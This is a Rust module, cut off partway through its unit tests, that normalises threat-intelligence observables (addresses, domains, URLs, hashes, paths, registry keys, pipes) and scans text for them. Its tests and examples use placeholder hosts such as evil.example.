//! Observable values: one normalised form for each kind, and a scanner that finds them in text.
//!
//! Indicators, events and the archive's index compare observables by [`normalise`]d bytes, so that
//! the same thing written in two ways is one thing everywhere.
//!
//! | kind | normalised bytes |
//! |---|---|
//! | `Ipv4`, `Ipv6` | 4 or 16 bytes; brackets and zone dropped, `::ffff:a.b.c.d` is IPv4 |
//! | `Network` | family (4 or 6), prefix length, address with host bits cleared; a full-length prefix is an address |
//! | `Domain` | lower case, no trailing dot; IDNA labels stay as written; at least two labels |
//! | `Url` | `host[:port]/path[?query]`: host lower case, no scheme, user, fragment or port 80/443 |
//! | `Email` | lower case |
//! | `Md5` … `Sha512`, `Imphash`, `Ja3` | the bytes behind the hexadecimal digits |
//! | `FileName` | last component, lower case |
//! | `FilePath` | lower case, `/` between components, `\\?\` and `\??\` dropped |
//! | `PathTail` | the same from some `/` on: the path's start is unknown (`%appdata%\x\y.exe`) |
//! | `RegistryKey` | lower case, short hive (`hklm`, `hkcu`, `hku`), user hives as `hkcu`, `ControlSetNNN` as `currentcontrolset` |
//! | `NamedPipe`, `Mutex` | without `\\.\pipe\`, `Global\` and the like; pipes in lower case |
//! | `ServiceName`, `UserAgent` | service lower case; agent as it is |
//!
//! A URL's scheme is dropped because half of the logs that hold URLs in two fields (host, path)
//! do not state it, and an indicator for one scheme is one for the other.
//!
//! Limits: a value longer than [`VALUE_BYTES_MAX`] has no normalised form. Nothing allocates but
//! the caller's buffer, and only where a value holds letters beyond ASCII is it read twice.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::str::FromStr;

use besa_simd::tokens::{self, Candidate, Word};

/// Longer values have no normalised form.
pub const VALUE_BYTES_MAX: usize = 4_096;

/// What an observable value is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum ObservableKind {
    /// An IPv4 address.
    Ipv4 = 1,
    /// An IPv6 address.
    Ipv6,
    /// An IPv4 or IPv6 network (CIDR).
    Network,
    /// A domain name.
    Domain,
    /// A URL.
    Url,
    /// An e-mail address.
    Email,
    /// MD5 of a file.
    Md5,
    /// SHA-1 of a file (or certificate).
    Sha1,
    /// SHA-256 of a file.
    Sha256,
    /// SHA-512 of a file.
    Sha512,
    /// MD5 of a program's import table.
    Imphash,
    /// MD5 of a TLS client greeting.
    Ja3,
    /// A file name without its directory.
    FileName,
    /// A whole path.
    FilePath,
    /// The end of a path, from some component on.
    PathTail,
    /// A registry key, or a key and the name of its value.
    RegistryKey,
    /// A mutex.
    Mutex,
    /// A named pipe.
    NamedPipe,
    /// A Windows service.
    ServiceName,
    /// The text of a `User-Agent` header.
    UserAgent,
}

use ObservableKind as Kind;

/// All kinds, in the order of their numbers.
pub const KINDS: [ObservableKind; 20] = [
    Kind::Ipv4,
    Kind::Ipv6,
    Kind::Network,
    Kind::Domain,
    Kind::Url,
    Kind::Email,
    Kind::Md5,
    Kind::Sha1,
    Kind::Sha256,
    Kind::Sha512,
    Kind::Imphash,
    Kind::Ja3,
    Kind::FileName,
    Kind::FilePath,
    Kind::PathTail,
    Kind::RegistryKey,
    Kind::Mutex,
    Kind::NamedPipe,
    Kind::ServiceName,
    Kind::UserAgent,
];

impl ObservableKind {
    /// The kind of a number (`kind as u8`).
    #[must_use]
    pub fn from_number(number: u8) -> Option<Self> {
        KINDS.get(usize::from(number).checked_sub(1)?).copied()
    }

    /// The name used in output.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Ipv4 => "ipv4",
            Self::Ipv6 => "ipv6",
            Self::Network => "network",
            Self::Domain => "domain",
            Self::Url => "url",
            Self::Email => "email",
            Self::Md5 => "md5",
            Self::Sha1 => "sha1",
            Self::Sha256 => "sha256",
            Self::Sha512 => "sha512",
            Self::Imphash => "imphash",
            Self::Ja3 => "ja3",
            Self::FileName => "file name",
            Self::FilePath => "file path",
            Self::PathTail => "end of a file path",
            Self::RegistryKey => "registry key",
            Self::Mutex => "mutex",
            Self::NamedPipe => "named pipe",
            Self::ServiceName => "service name",
            Self::UserAgent => "user agent",
        }
    }

    /// The kind of file hash that has so many hexadecimal digits.
    #[must_use]
    pub fn of_hash_digits(digits: usize) -> Option<Self> {
        match digits {
            32 => Some(Self::Md5),
            40 => Some(Self::Sha1),
            64 => Some(Self::Sha256),
            128 => Some(Self::Sha512),
            _ => None,
        }
    }
}

/// Appends the normalised form of `value` to `out` and returns the kind that it turned out to be:
/// an address of the other family, a network of full length, a path without its start. `None`,
/// with nothing appended, when the value is none of that kind.
///
/// ```
/// use besa_event::observable::{ObservableKind, normalise};
///
/// let mut out = Vec::new();
/// assert_eq!(normalise(ObservableKind::Ipv6, b"::ffff:10.0.0.1", &mut out), Some(ObservableKind::Ipv4));
/// assert_eq!(out, [10, 0, 0, 1]);
/// ```
pub fn normalise(kind: ObservableKind, value: &[u8], out: &mut Vec<u8>) -> Option<ObservableKind> {
    let value = value.trim_ascii();
    if value.is_empty() || value.len() > VALUE_BYTES_MAX {
        return None;
    }
    let start = out.len();
    let found = match kind {
        Kind::Ipv4 | Kind::Ipv6 => address(parse_address(value)?, out),
        Kind::Network => network(value, out)?,
        Kind::Domain => domain(value, out)?,
        Kind::Url => url(value, out)?,
        Kind::Email => email(value, out)?,
        Kind::Md5 | Kind::Imphash | Kind::Ja3 => hex(value, 32, out).then_some(kind)?,
        Kind::Sha1 => hex(value, 40, out).then_some(kind)?,
        Kind::Sha256 => hex(value, 64, out).then_some(kind)?,
        Kind::Sha512 => hex(value, 128, out).then_some(kind)?,
        Kind::FileName => {
            lower(file_name(value), out);
            kind
        }
        Kind::FilePath | Kind::PathTail => path(value, out)?,
        Kind::RegistryKey => registry_key(value, out)?,
        Kind::Mutex => {
            out.extend_from_slice(without_prefixes(
                value,
                &[r"\sessions\", r"\basenamedobjects\", r"global\", r"local\"],
            ));
            kind
        }
        Kind::NamedPipe => {
            let name =
                without_prefixes(value, &[r"\\.\pipe\", r"\device\namedpipe\", r"\pipe\", r"pipe\", r"\"]);
            lower(name, out);
            kind
        }
        Kind::ServiceName => {
            lower(value, out);
            kind
        }
        Kind::UserAgent => {
            out.extend_from_slice(value);
            kind
        }
    };
    (out.len() > start).then_some(found)
}

/// A normalised value for people.
#[must_use]
pub fn display(kind: ObservableKind, normalised: &[u8]) -> String {
    match kind {
        Kind::Ipv4 | Kind::Ipv6 => address_of(normalised).map(|ip| ip.to_string()).unwrap_or_default(),
        Kind::Network => match normalised {
            [_, prefix, address @ ..] => {
                address_of(address).map(|ip| format!("{ip}/{prefix}")).unwrap_or_default()
            }
            _ => String::new(),
        },
        Kind::Md5 | Kind::Sha1 | Kind::Sha256 | Kind::Sha512 | Kind::Imphash | Kind::Ja3 => {
            normalised.iter().map(|byte| format!("{byte:02x}")).collect()
        }
        _ => String::from_utf8_lossy(normalised).into_owned(),
    }
}

fn address_of(bytes: &[u8]) -> Option<IpAddr> {
    match bytes.len() {
        4 => <[u8; 4]>::try_from(bytes).ok().map(|bytes| Ipv4Addr::from(bytes).into()),
        _ => <[u8; 16]>::try_from(bytes).ok().map(|bytes| Ipv6Addr::from(bytes).into()),
    }
}

/// An address in any spelling; brackets and an IPv6 zone are taken off, IPv4 mapped into IPv6 is
/// IPv4.
#[must_use]
pub fn parse_address(text: &[u8]) -> Option<IpAddr> {
    let text = text.trim_ascii();
    let text = text.strip_prefix(b"[").and_then(|inner| inner.strip_suffix(b"]")).unwrap_or(text);
    let text = text.split(|byte| *byte == b'%').next().unwrap_or_default();
    if text.len() > 45 {
        return None;
    }
    IpAddr::from_str(std::str::from_utf8(text).ok()?).ok().map(|address| address.to_canonical())
}

fn address(address: IpAddr, out: &mut Vec<u8>) -> Kind {
    match address {
        IpAddr::V4(address) => {
            out.extend_from_slice(&address.octets());
            Kind::Ipv4
        }
        IpAddr::V6(address) => {
            out.extend_from_slice(&address.octets());
            Kind::Ipv6
        }
    }
}

fn network(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let Some(slash) = value.iter().position(|byte| *byte == b'/') else {
        return parse_address(value).map(|ip| address(ip, out));
    };
    let (text, digits) = value.split_at_checked(slash)?;
    let written = IpAddr::from_str(std::str::from_utf8(text).ok()?).ok()?;
    let mut prefix = u8::from_str(std::str::from_utf8(digits.get(1..)?).ok()?).ok()?;
    let ip = written.to_canonical();
    if ip.is_ipv4() && written.is_ipv6() {
        prefix = prefix.checked_sub(96)?;
    }
    let width = if ip.is_ipv4() { 32 } else { 128 };
    if prefix > width {
        return None;
    }
    if prefix == width {
        return Some(address(ip, out));
    }
    network_key(ip, prefix, out);
    Some(Kind::Network)
}

/// Appends the normalised form of the network of that prefix length in which an address lies.
pub fn network_key(ip: IpAddr, prefix: u8, out: &mut Vec<u8>) {
    match ip {
        IpAddr::V4(ip) => {
            let mask = u32::MAX.checked_shl(32 - u32::from(prefix.min(32))).unwrap_or(0);
            out.extend_from_slice(&[4, prefix]);
            out.extend_from_slice(&(ip.to_bits() & mask).to_be_bytes());
        }
        IpAddr::V6(ip) => {
            let mask = u128::MAX.checked_shl(128 - u32::from(prefix.min(128))).unwrap_or(0);
            out.extend_from_slice(&[6, prefix]);
            out.extend_from_slice(&(ip.to_bits() & mask).to_be_bytes());
        }
    }
}

fn domain(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let value = value.strip_suffix(b".").unwrap_or(value);
    is_domain(value).then(|| {
        lower(value, out);
        Kind::Domain
    })
}

/// Whether a text is shaped like a domain name of at least two labels (RFC 1035 section 2.3.1;
/// underscores and UTF-8 letters are let through). File names such as `a.exe` are so shaped too.
#[must_use]
pub fn is_domain(text: &[u8]) -> bool {
    let letter = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'-' || *byte == b'_' || *byte >= 0x80;
    let mut labels = 0;
    let mut numeric = false;
    for label in text.split(|byte| *byte == b'.') {
        if label.is_empty() || label.len() > 63 || !label.iter().all(letter) {
            return false;
        }
        labels += 1;
        numeric = label.iter().all(u8::is_ascii_digit);
    }
    labels >= 2 && !numeric && text.len() <= 253
}

/// Whether a text is a host: a domain name, an IPv4 address or an IPv6 address in brackets.
fn is_host(host: &[u8]) -> bool {
    is_domain(host.strip_suffix(b".").unwrap_or(host)) || parse_address(host).is_some()
}

/// The host in a URL (with or without scheme) as it is written: no user, no port.
#[must_use]
pub fn url_host(url: &[u8]) -> &[u8] {
    authority(url).0
}

/// Host, port and the rest from path or query on.
fn authority(url: &[u8]) -> (&[u8], &[u8], &[u8]) {
    let after = match find(url, b"://") {
        Some(at) => url.get(at + 3..).unwrap_or_default(),
        None => url,
    };
    let end = after.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#' | b'\\')).unwrap_or(after.len());
    let (authority, rest) = after.split_at_checked(end).unwrap_or_default();
    let host = authority.rsplit(|byte| *byte == b'@').next().unwrap_or_default();
    let colon = match host.first() {
        Some(b'[') => host.iter().position(|byte| *byte == b']').map_or(host.len(), |at| at + 1),
        _ => host.iter().position(|byte| *byte == b':').unwrap_or(host.len()),
    };
    let (host, port) = host.split_at_checked(colon).unwrap_or_default();
    (host, port.strip_prefix(b":").unwrap_or_default(), rest)
}

fn url(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let (host, port, rest) = authority(value);
    let has_scheme = find(value, b"://").is_some();
    // With a scheme any name will do (`http://intranet/x`), without one it has to look like a host.
    if host.is_empty() || !(has_scheme || is_host(host)) || !port.iter().all(u8::is_ascii_digit) {
        return None;
    }
    lower(host.strip_suffix(b".").unwrap_or(host), out);
    if !matches!(port, b"" | b"80" | b"443") {
        out.push(b':');
        out.extend_from_slice(port);
    }
    let rest = rest.split(|byte| *byte == b'#').next().unwrap_or_default();
    if rest.first() != Some(&b'/') {
        out.push(b'/');
    }
    out.extend_from_slice(rest);
    Some(Kind::Url)
}

fn email(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let at = value.iter().rposition(|byte| *byte == b'@')?;
    let (local, host) = value.split_at_checked(at)?;
    let local_fits = !local.is_empty() && local.len() <= 64 && local.iter().all(|byte| is_local_part(*byte));
    (local_fits && is_domain(host.get(1..)?)).then(|| {
        lower(value, out);
        Kind::Email
    })
}

/// What stands before the `@` without being quoted (RFC 5322 section 3.2.3).
fn is_local_part(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte >= 0x80 || b".!#$%&'*+-/=?^_`{|}~".contains(&byte)
}

fn hex(value: &[u8], digits: usize, out: &mut Vec<u8>) -> bool {
    if value.len() != digits || !value.iter().all(u8::is_ascii_hexdigit) {
        return false;
    }
    let digit = |byte: u8| u8::try_from(char::from(byte).to_digit(16).unwrap_or(0)).unwrap_or(0);
    out.extend(value.chunks_exact(2).map(|pair| match pair {
        [high, low] => digit(*high) << 4 | digit(*low),
        _ => 0,
    }));
    true
}

/// The last component of a path with either separator.
#[must_use]
pub fn file_name(path: &[u8]) -> &[u8] {
    path.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default()
}

/// Directories behind environment variables, as far as they are the same on every machine.
const VARIABLES: &[(&str, &str)] = &[
    ("%appdata%", "/appdata/roaming"),
    ("%localappdata%", "/appdata/local"),
    ("%temp%", "/temp"),
    ("%tmp%", "/temp"),
    ("%programdata%", "/programdata"),
    ("%allusersprofile%", "/programdata"),
    ("%public%", "/users/public"),
    ("%windir%", "/windows"),
    ("%systemroot%", "/windows"),
    ("%system%", "/windows/system32"),
    ("%programfiles%", "/program files"),
    ("%programfiles(x86)%", "/program files (x86)"),
    ("%commonprogramfiles%", "/program files/common files"),
    ("%systemdrive%", ""),
    ("%homedrive%", ""),
];

fn path(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let start = out.len();
    let value = without_prefixes(value, &[r"\\?\", r"\??\"]);
    let mut kind = Kind::FilePath;
    let mut rest = value;
    if value.first() == Some(&b'%') {
        let known = |(name, _): &&(&str, &str)| has_prefix(value, name);
        let (name, directory) = VARIABLES.iter().find(known)?;
        out.extend_from_slice(directory.as_bytes());
        rest = value.get(name.len()..).unwrap_or_default();
        kind = Kind::PathTail;
    } else if has_prefix(value, r"\systemroot\") {
        out.extend_from_slice(b"/windows");
        rest = value.get(r"\systemroot".len()..).unwrap_or_default();
        kind = Kind::PathTail;
    } else if value.first() == Some(&b'\\') && value.get(1) != Some(&b'\\') {
        kind = Kind::PathTail;
    }
    lower(rest, out);
    let added = out.get_mut(start..).unwrap_or_default();
    added.iter_mut().filter(|byte| **byte == b'\\').for_each(|byte| *byte = b'/');
    if !added.contains(&b'/') {
        out.truncate(start);
        return None;
    }
    Some(kind)
}

/// Long and kernel spellings of hives.
const HIVES: &[(&str, &str)] = &[
    (r"hkey_local_machine\", r"hklm\"),
    (r"hkey_current_user\", r"hkcu\"),
    (r"hkey_users\", r"hku\"),
    (r"hkey_classes_root\", r"hklm\software\classes\"),
    (r"hkcr\", r"hklm\software\classes\"),
    (r"\registry\machine\", r"hklm\"),
    (r"\registry\user\", r"hku\"),
    (r"registry\machine\", r"hklm\"),
    (r"hklm:\", r"hklm\"),
    (r"hkcu:\", r"hkcu\"),
    (r"hklm\", r"hklm\"),
    (r"hkcu\", r"hkcu\"),
    (r"hku\", r"hku\"),
];

/// Whether a text starts with a registry hive in any spelling.
#[must_use]
pub fn is_registry_key(text: &[u8]) -> bool {
    HIVES.iter().any(|(written, _)| has_prefix(text, written))
}

fn registry_key(value: &[u8], out: &mut Vec<u8>) -> Option<Kind> {
    let value = without_prefixes(value, &[r"computer\"]);
    let (written, hive) = HIVES.iter().find(|(written, _)| has_prefix(value, written))?;
    let mut rest = value.get(written.len()..)?;
    let mut hive = *hive;
    if hive == r"hku\" && has_prefix(rest, "s-1-5-21-") {
        let end = rest.iter().position(|byte| *byte == b'\\').unwrap_or(rest.len());
        let (sid, below) = rest.split_at_checked(end)?;
        let classes = sid.len() > 8 && sid.to_ascii_lowercase().ends_with(b"_classes");
        hive = if classes { r"hkcu\software\classes\" } else { r"hkcu\" };
        rest = below.strip_prefix(b"\\").unwrap_or(below);
    }
    out.extend_from_slice(hive.as_bytes());
    if hive == r"hklm\" && has_prefix(rest, r"system\controlset") && rest.get(20) == Some(&b'\\') {
        out.extend_from_slice(br"system\currentcontrolset");
        rest = rest.get(20..).unwrap_or_default();
    }
    lower(rest.strip_suffix(b"\\").unwrap_or(rest), out);
    Some(Kind::RegistryKey)
}

fn has_prefix(text: &[u8], prefix: &str) -> bool {
    text.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix.as_bytes()))
}

fn without_prefixes<'a>(mut text: &'a [u8], prefixes: &[&str]) -> &'a [u8] {
    for prefix in prefixes {
        if has_prefix(text, prefix) {
            text = text.get(prefix.len()..).unwrap_or_default();
        }
    }
    text
}

/// Appends the lower-case form; bytes that are not UTF-8 stay.
fn lower(text: &[u8], out: &mut Vec<u8>) {
    if text.is_ascii() {
        out.extend(text.iter().map(u8::to_ascii_lowercase));
        return;
    }
    for chunk in text.utf8_chunks() {
        for character in chunk.valid().chars().flat_map(char::to_lowercase) {
            out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
        }
        out.extend_from_slice(chunk.invalid());
    }
}

fn find(text: &[u8], wanted: &[u8]) -> Option<usize> {
    memchr::memmem::find(text, wanted)
}

/// Turns the usual defanged spellings back: `hxxp`, `[.]`, `(dot)`, `[at]`, `[:]` and the like, in
/// any case. For values of indicator lists; evidence is never defanged.
#[must_use]
pub fn refang(text: &str) -> String {
    const SPELLINGS: &[(&str, &str)] = &[
        ("[.]", "."),
        ("(.)", "."),
        ("{.}", "."),
        ("[dot]", "."),
        ("(dot)", "."),
        ("{dot}", "."),
        ("[://]", "://"),
        ("[:]", ":"),
        ("[@]", "@"),
        ("[at]", "@"),
        ("(at)", "@"),
        ("[/]", "/"),
    ];
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    for (defanged, scheme) in [("hxxp", "http"), ("fxp", "ftp")] {
        if has_prefix(rest.as_bytes(), defanged) {
            out.push_str(scheme);
            rest = rest.get(defanged.len()..).unwrap_or_default();
        }
    }
    while let Some(at) = rest.find(['[', '(', '{']) {
        let (before, bracket) = rest.split_at_checked(at).unwrap_or_default();
        out.push_str(before);
        let spelling = SPELLINGS.iter().find(|(defanged, _)| has_prefix(bracket.as_bytes(), defanged));
        let (taken, plain) = spelling.map_or((1, None), |(defanged, plain)| (defanged.len(), Some(*plain)));
        out.push_str(plain.or_else(|| bracket.get(..1)).unwrap_or_default());
        rest = bracket.get(taken..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

const WORD: u8 = 1;
const HEX: u8 = 2;
const DIGIT: u8 = 4;
const DOT: u8 = 8;
const COLON: u8 = 16;
const NUMERIC: u8 = 32;

/// What a byte can be part of; 0 ends every word.
const CLASSES: [u8; 256] = {
    let mut table = [0; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = match byte as u8 {
            b'0'..=b'9' => WORD | HEX | DIGIT | NUMERIC,
            b'a'..=b'f' | b'A'..=b'F' => WORD | HEX,
            b'g'..=b'z' | b'G'..=b'Z' | b'_' | 0x80.. => WORD,
            b'.' => WORD | DOT | NUMERIC,
            b'-' => WORD | NUMERIC,
            b':' => COLON,
            _ => 0,
        };
        byte += 1;
    }
    table
};

#[inline]
fn class(byte: u8) -> u8 {
    CLASSES.get(usize::from(byte)).copied().unwrap_or(0)
}

/// Finds observables in text and hands each with its kind to `emit`: URLs, domain names (also
/// those in URLs and addresses; any dotted word is a candidate), IPv4 and IPv6 addresses, hashes
/// and e-mail addresses. One pass, no allocation; tokens are as written, for [`normalise`].
///
/// A token may be given twice (the host of a URL is also a word of its own); their order is not
/// that of the text.
///
/// ```
/// use besa_event::observable::scan;
///
/// let mut found = Vec::new();
/// scan(b"GET http://evil.example/a.php?id=1 (from 10.0.0.7:4444)", &mut |kind, token| {
///     found.push((kind.name(), String::from_utf8_lossy(token).into_owned()));
/// });
/// assert!(found.contains(&("url", "http://evil.example/a.php?id=1".to_owned())));
/// assert!(found.contains(&("domain", "evil.example".to_owned())));
/// assert!(found.contains(&("ipv4", "10.0.0.7".to_owned())));
/// ```
pub fn scan<'t>(text: &'t [u8], emit: &mut dyn FnMut(ObservableKind, &'t [u8])) {
    let mut scanner = Scanner::new(text, emit);
    tokens::find(text, &mut |candidate| scanner.candidate(candidate));
}

/// How long the host is at the start of a normalised URL, which has no scheme.
pub(crate) fn url_host_len(normalised: &[u8]) -> usize {
    normalised.iter().position(|byte| matches!(byte, b'/' | b':')).unwrap_or(normalised.len())
}

/// The slow twin of [`scan`]: byte by byte.
pub fn scan_scalar<'t>(text: &'t [u8], emit: &mut dyn FnMut(ObservableKind, &'t [u8])) {
    let mut scanner = Scanner::new(text, emit);
    let mut at = 0;
    while let Some(byte) = text.get(at) {
        match class(*byte) {
            0 => at += 1,
            COLON => {
                scanner.colon(at);
                at += 1;
            }
            first => {
                let (mut all, mut any, start) = (first, first, at);
                at += 1;
                while let Some(byte) = text.get(at) {
                    let class = class(*byte);
                    if class & WORD == 0 {
                        break;
                    }
                    all &= class;
                    any |= class;
                    at += 1;
                }
                scanner.word(start, at, all, any);
            }
        }
    }
}

/// What makes observables of candidates.
pub(crate) struct Scanner<'t, 'e> {
    text: &'t [u8],
    emit: &'e mut dyn FnMut(Kind, &'t [u8]),
    /// Where the last URL that was read begins behind its scheme, and the first byte after it that
    /// ends URLs, which keeps the pass linear.
    url_from: usize,
    url_stop: usize,
    /// Colons up to here have been tried as part of an IPv6 address.
    colons_until: usize,
}

/// Longer words are not looked at for domains and addresses.
const DOTTED_BYTES_MAX: usize = 512;
/// Longer URLs are cut.
const URL_BYTES_MAX: usize = 2_048;

impl<'t, 'e> Scanner<'t, 'e> {
    pub(crate) fn new(text: &'t [u8], emit: &'e mut dyn FnMut(Kind, &'t [u8])) -> Self {
        Self { text, emit, url_from: 0, url_stop: 0, colons_until: 0 }
    }

    /// Hands on the observables of a candidate. They may come in any order, but as long as each is not
    /// far from the one before it time is linear.
    pub(crate) fn candidate(&mut self, candidate: Candidate) {
        match candidate {
            Candidate::Dotted(Word { start, end, .. }) => {
                let word = self.slice(start, end);
                if word.len() <= DOTTED_BYTES_MAX {
                    self.dotted(start, word, if is_numeric(word) { NUMERIC } else { 0 });
                }
            }
            Candidate::Digest { start, end } => {
                if let Some(kind) = Kind::of_hash_digits(end - start) {
                    let digits = self.slice(start, end);
                    (self.emit)(kind, digits);
                }
            }
            Candidate::Scheme { colon } => {
                let before = self.slice(0, colon);
                let scheme = before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric()).count();
                self.url(colon - scheme, colon);
            }
            Candidate::Colons { start, end } => {
                if let Some(at) = memchr::memchr(b':', self.slice(start, end)) {
                    self.colon(start + at);
                }
            }
        }
    }

    fn slice(&self, start: usize, end: usize) -> &'t [u8] {
        self.text.get(start..end).unwrap_or_default()
    }

    fn word(&mut self, start: usize, end: usize, all: u8, any: u8) {
        let word = self.slice(start, end);
        if word.len() >= 32 {
            self.hashes(word, all);
        }
        if any & DOT != 0 && word.len() <= DOTTED_BYTES_MAX {
            self.dotted(start, word, all);
        }
        if self.text.get(end) == Some(&b':') && self.slice(end, end + 3) == b"://" {
            self.url(start, end);
        }
    }

    /// Hashes stand alone or between `.`, `_` and `-`.
    fn hashes(&mut self, word: &'t [u8], all: u8) {
        if all & HEX != 0 {
            if let Some(kind) = Kind::of_hash_digits(word.len()) {
                (self.emit)(kind, word);
            }
            return;
        }
        for piece in word.split(|byte| matches!(byte, b'.' | b'_' | b'-')) {
            if let Some(kind) = Kind::of_hash_digits(piece.len())
                && piece.iter().all(u8::is_ascii_hexdigit)
            {
                (self.emit)(kind, piece);
            }
        }
    }

    fn dotted(&mut self, start: usize, word: &'t [u8], all: u8) {
        if all & NUMERIC != 0 {
            // Digits, dots and dashes only: an address, or a range of two.
            for piece in word.split(|byte| *byte == b'-') {
                let piece = trim_dots(piece);
                if (7..=15).contains(&piece.len()) && parse_address(piece).is_some() {
                    (self.emit)(Kind::Ipv4, piece);
                }
            }
            return;
        }
        let lead = word.iter().take_while(|byte| matches!(byte, b'.' | b'-')).count();
        let name = trim_dots(word);
        if !is_domain(name) {
            return;
        }
        (self.emit)(Kind::Domain, name);
        if lead == 0 && start > 0 && self.text.get(start - 1) == Some(&b'@') {
            self.email(start - 1, start + name.len());
        }
    }

    fn email(&mut self, at: usize, end: usize) {
        let before = self.slice(at.saturating_sub(64), at);
        let local = before
            .iter()
            .rev()
            .take_while(|byte| class(**byte) & WORD != 0 || matches!(byte, b'+' | b'%'))
            .count();
        if local > 0 {
            let address = self.slice(at - local, end);
            (self.emit)(Kind::Email, address);
        }
    }

    fn url(&mut self, start: usize, colon: usize) {
        let word = self.slice(start, colon);
        let scheme = word.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let from = colon + 3;
        if scheme == 0 {
            return;
        }
        let stop_in = |text: &[u8]| text.iter().position(|byte| ends_url(*byte)).map(|at| from + at);
        let stop = if from < self.url_from {
            // Out of order, but not far.
            stop_in(self.slice(from, self.url_from)).unwrap_or(self.url_stop)
        } else {
            if from > self.url_stop {
                self.url_stop = stop_in(self.slice(from, self.text.len())).unwrap_or(self.text.len());
            }
            self.url_from = from;
            self.url_stop
        };
        let end = stop.min(from + URL_BYTES_MAX);
        let url = trim_url(self.slice(colon - scheme, end));
        if url.len() > scheme + 3 {
            (self.emit)(Kind::Url, url);
        }
    }

    /// An IPv6 address around the colon at `at`.
    fn colon(&mut self, at: usize) {
        if at < self.colons_until {
            return;
        }
        let before = self.slice(at.saturating_sub(5), at);
        let hex = before.iter().rev().take_while(|byte| byte.is_ascii_hexdigit()).count();
        let start = at - hex;
        let part = |byte: &&u8| byte.is_ascii_hexdigit() || matches!(byte, b':' | b'.');
        let len = self.text.get(at..).unwrap_or_default().iter().take_while(part).count();
        self.colons_until = at + len;
        let whole = self.slice(start, at + len);
        let follows_word = start > 0 && self.text.get(start - 1).is_some_and(|byte| class(*byte) != 0);
        let before_word = self.text.get(at + len).is_some_and(|byte| class(*byte) & WORD != 0);
        if hex > 4 || follows_word || before_word || whole.len() > 46 {
            return;
        }
        let mut text = trim_dots(whole);
        if text.ends_with(b":") && !text.ends_with(b"::") {
            text = text.strip_suffix(b":").unwrap_or(text);
        }
        if text.len() > 2
            && text.iter().filter(|byte| **byte == b':').count() >= 2
            && parse_address(text).is_some()
        {
            (self.emit)(Kind::Ipv6, text);
        }
    }
}

/// Whether there are only digits, dots and dashes, as in an address or a range of two.
pub(crate) fn is_numeric(word: &[u8]) -> bool {
    word.iter().all(|byte| class(*byte) & NUMERIC != 0)
}

/// Whether a byte belongs to a word.
pub(crate) fn is_word(byte: u8) -> bool {
    class(byte) & WORD != 0
}

pub(crate) fn trim_dots(word: &[u8]) -> &[u8] {
    let is_edge = |byte: &u8| matches!(byte, b'.' | b'-');
    let start = word.iter().position(|byte| !is_edge(byte)).unwrap_or(word.len());
    let end = word.iter().rposition(|byte| !is_edge(byte)).map_or(start, |at| at + 1);
    word.get(start..end).unwrap_or_default()
}

/// Bytes that a URL in running text does not hold (RFC 3986 appendix C, and quotes).
pub(crate) fn ends_url(byte: u8) -> bool {
    byte <= b' ' || byte == 0x7f || b"\"'<>`|\\^{}".contains(&byte)
}

/// Without the punctuation of the sentence around it: a closing bracket goes when nothing opens it.
fn trim_url(mut url: &[u8]) -> &[u8] {
    if !url.last().is_some_and(|last| b".,;:!?)]".contains(last)) {
        return url;
    }
    let count = |wanted: u8| url.iter().filter(|byte| **byte == wanted).count();
    let mut round = count(b')').saturating_sub(count(b'('));
    let mut square = count(b']').saturating_sub(count(b'['));
    while let Some((last, rest)) = url.split_last() {
        let unopened = match last {
            b'.' | b',' | b';' | b':' | b'!' | b'?' => {
                url = rest;
                continue;
            }
            b')' => &mut round,
            b']' => &mut square,
            _ => break,
        };
        if *unopened == 0 {
            break;
        }
        *unopened -= 1;
        url = rest;
    }
    url
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn check(kind: Kind, text: &str, expected: Option<(Kind, &str)>) {
        let mut out = b"x".to_vec();
        let found = normalise(kind, text.as_bytes(), &mut out);
        let shown = found.map(|kind| (kind, display(kind, &out[1..])));
        assert_eq!(shown, expected.map(|(kind, text)| (kind, text.to_owned())), "{kind:?} {text}");
        assert!(found.is_some() || out == b"x", "{text}");
    }

    #[test]
    fn normal_forms() {
        use Kind::*;
        for (kind, text, found, shown) in [
            (Ipv4, " 10.0.0.1 ", Ipv4, "10.0.0.1"),
            (Ipv4, "::FFFF:10.0.0.1", Ipv4, "10.0.0.1"),
            (Ipv4, "[2001:DB8:0:0::1]", Ipv6, "2001:db8::1"),
            (Ipv6, "fe80::1%eth0", Ipv6, "fe80::1"),
            (Network, "10.1.2.3/8", Network, "10.0.0.0/8"),
            (Network, "10.1.2.3/32", Ipv4, "10.1.2.3"),
            (Network, "10.1.2.3", Ipv4, "10.1.2.3"),
            (Network, "2001:db8::1/32", Network, "2001:db8::/32"),
            (Network, "::ffff:10.0.0.0/104", Network, "10.0.0.0/8"),
            (Network, "0.0.0.0/0", Network, "0.0.0.0/0"),
            (Domain, "EVIL.Example.", Domain, "evil.example"),
            (Domain, "ПРИМЕР.рф", Domain, "пример.рф"),
            (Url, "HTTPS://User@EVIL.example:443/A?b=C#d", Url, "evil.example/A?b=C"),
            (Url, "http://evil.example", Url, "evil.example/"),
            (Url, "evil.example:8080/x", Url, "evil.example:8080/x"),
            (Url, "http://[2001:DB8::1]:81?q", Url, "[2001:db8::1]:81/?q"),
            (Url, "http://intranet/x", Url, "intranet/x"),
            (Email, "A.B+c@Evil.Example", Email, "a.b+c@evil.example"),
